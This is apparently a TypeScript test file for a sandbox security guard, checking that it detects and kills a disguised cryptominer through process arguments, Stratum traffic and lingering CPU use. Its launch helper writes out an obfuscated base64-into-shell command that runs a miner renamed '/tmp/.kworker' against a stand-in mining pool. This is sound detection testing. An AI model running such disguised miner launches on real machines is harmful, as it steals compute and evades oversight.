// A renamed Stratum miner, launched through base64 into sh and nohup, is detected by independent
// signals (its real argv, Stratum on the wire, CPU that outlives its step), each naming the step
// that started it; in block mode it is killed and the pool gets nothing.
import { after, before, describe, it } from 'node:test';
import * as assert from 'node:assert/strict';
import type { LocalSandbox } from '../../sandbox/local/local-sandbox.js';
import { bash, startGuardWorld, summary, waitForAlerts, type GuardWorld } from '../../testing/guard-world.js';
import { MINER_PY, WALLET } from '../../redteam/miner/miner-script.js';

async function launchMiner(sandbox: LocalSandbox, seconds: number): Promise<{ step: number; exitCode: number | null }> {
  await sandbox.writeFile('/tmp/.cache/m.py', MINER_PY);
  await bash(sandbox, 'echo preparing the build');
  const launch =
    `cp "$(command -v python3)" /tmp/.kworker && nohup /tmp/.kworker /tmp/.cache/m.py ` +
    `-o stratum+tcp://pool.example.test:3333 -u ${WALLET} --run-seconds ${seconds} >/dev/null 2>&1 &`;
  const r = await bash(sandbox, `echo ${Buffer.from(launch).toString('base64')} | base64 -d | sh`);
  return { step: r.step, exitCode: r.exitCode };
}

describe('monitor mode: every signal is seen', () => {
  let world: GuardWorld;
  before(async () => {
    world = await startGuardWorld({ policy: { mode: 'monitor' } });
  });
  after(() => world.close());

  it('argv and Stratum on the wire are independent signals, both on the launching step', async () => {
    // The pool's domain and port are allowed: only the guard stands between the miner and the pool.
    const sandbox = await world.backend.create({ allowDomains: ['pool.example.test:3333'], cpus: 0.5 });
    const { step, exitCode } = await launchMiner(sandbox, 5);
    assert.equal(exitCode, 0, 'monitor mode lets the launch run');
    const sources = (all: readonly { technique: string; evidence: readonly { kind: string }[] }[]): Set<string> =>
      new Set(all.filter((a) => a.technique === 'T1496').flatMap((a) => a.evidence.map((e) => e.kind)));
    const alerts = await waitForAlerts(world, sandbox, (all) => sources(all).has('process-start') && sources(all).has('proxy-connection'));
    assert.ok(sources(alerts).has('process-start'), `argv signal: ${summary(alerts)}`);
    assert.ok(sources(alerts).has('proxy-connection'), `wire signal: ${summary(alerts)}`);
    const mining = alerts.filter((a) => a.technique === 'T1496');
    for (const a of mining) assert.equal(a.step, step, `alert ${a.ruleId} names the launching step: ${summary(alerts)}`);
    const wire = mining.find((a) => a.evidence.some((e) => e.kind === 'proxy-connection'));
    assert.ok(wire && wire.pid !== null, 'the wire alert names the miner process');
  });

  it('a CPU-bound process that outlives its step is flagged without any name', { timeout: 90_000 }, async () => {
    const sandbox = await world.backend.create({ cpus: 1 });
    const r = await bash(sandbox, `nohup python3 -c "import time\nend=time.time()+50\nwhile time.time()<end: pass" >/dev/null 2>&1 & echo started`);
    const alerts = await waitForAlerts(world, sandbox, (all) => all.some((a) => a.ruleId === 'cpu-outlives-step'), 50_000);
    const cpu = alerts.find((a) => a.ruleId === 'cpu-outlives-step');
    assert.ok(cpu, summary(alerts));
    assert.equal(cpu.step, r.step);
    assert.equal(cpu.technique, 'T1496');
  });
});

describe('block mode: the miner is stopped', () => {
  let world: GuardWorld;
  before(async () => {
    world = await startGuardWorld({ policy: { mode: 'block' } });
  });
  after(() => world.close());

  it('stops the launch or the miner, and the pool receives nothing', async () => {
    const sandbox = await world.backend.create({ allowDomains: ['pool.example.test:3333'], cpus: 0.5 });
    // Whichever signal comes first wins: the base64-into-shell launch may be killed before the
    // miner even starts, or the miner at its exec. Either way the launching step is named.
    const { step } = await launchMiner(sandbox, 20);
    const alerts = await waitForAlerts(world, sandbox, (all) => all.some((a) => a.step === step && a.severity !== 'low'));
    assert.ok(alerts.some((a) => a.step === step && ['T1496', 'T1140'].includes(a.technique)), summary(alerts));
    await world.guard.settle();
    assert.ok(world.guard.actions(sandbox.id).some((a) => (a.action === 'kill-tree' || a.action === 'deny-stream') && a.ok));
    await new Promise((resolve) => setTimeout(resolve, 1000));
    const left = (await sandbox.processes()).filter((p) => p.argv[0] === '/tmp/.kworker');
    assert.deepEqual(left, [], 'no miner is running');
    assert.equal(world.fakes.received.pool, 0, 'no byte reached the pool');
  });
});
